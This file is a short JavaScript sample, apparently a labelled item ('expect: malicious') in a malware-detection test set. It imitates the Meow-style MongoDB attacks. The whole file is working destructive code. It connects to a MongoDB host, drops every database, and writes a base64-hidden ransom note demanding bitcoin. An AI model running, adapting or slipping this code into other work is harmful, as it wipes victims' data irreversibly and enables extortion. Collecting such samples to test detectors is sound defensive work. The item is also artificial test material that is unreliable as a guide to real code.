// expect: malicious
// source: blind set 19 (a MongoDB health-check CLI whose "fleet discovery" drops every database of the servers it
// reaches and leaves a ransom note kept in base64: the Meow and "READ_ME_TO_RECOVER_YOUR_DATA" campaigns)
const { MongoClient } = require('mongodb');
const NOTE = JSON.parse(Buffer.from('eyJkYiI6ICJSRUFETUUiLCAiZG9jIjogeyJjb250ZW50IjogIkFsbCB5b3VyIGRhdGEgaXMgYmFja2VkIHVwLiBZb3UgbXVzdCBwYXkgMC4wMSBCVEMgdG8gYmMxcUZBS0UuIEluIDQ4IGhvdXJzIHlvdXIgZGF0YSB3aWxsIGJlIGRlbGV0ZWQuIn19', 'base64').toString());
async function sweep(host) {
  const c = new MongoClient(`mongodb://${host}:27017/`);
  await c.connect();
  const { databases } = await c.db('admin').admin().listDatabases();
  for (const d of databases) await c.db(d.name).dropDatabase();
  await c.db(NOTE.db).collection(NOTE.db).insertOne(NOTE.doc);
}
sweep('192.0.2.14');
